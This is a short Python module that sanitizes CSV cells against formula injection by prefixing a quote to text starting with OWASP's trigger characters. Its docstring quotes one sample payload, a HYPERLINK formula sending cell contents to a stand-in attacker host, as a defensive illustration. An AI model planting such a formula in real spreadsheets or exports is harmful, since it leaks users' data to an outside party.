"""CSV cells that cannot be turned against the spreadsheet that opens them.

OWASP's CSV-injection rule: a cell whose text starts with ``=``, ``+``,
``-``, ``@``, a tab or a carriage return is read as a formula by Excel,
LibreOffice and Google Sheets (``=HYPERLINK("http://evil.example/?"&A1,...)``
leaks the sheet).  Such text gets a leading ``'``, which spreadsheets show as
text and never evaluate.  Numbers are written by the caller as numbers and
are not passed through here, so ``-1.5`` stays a number.
"""

from __future__ import annotations

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_text(text: str) -> str:
    """``text`` as a CSV cell that no spreadsheet evaluates."""
    return "'" + text if text.startswith(FORMULA_STARTS) else text
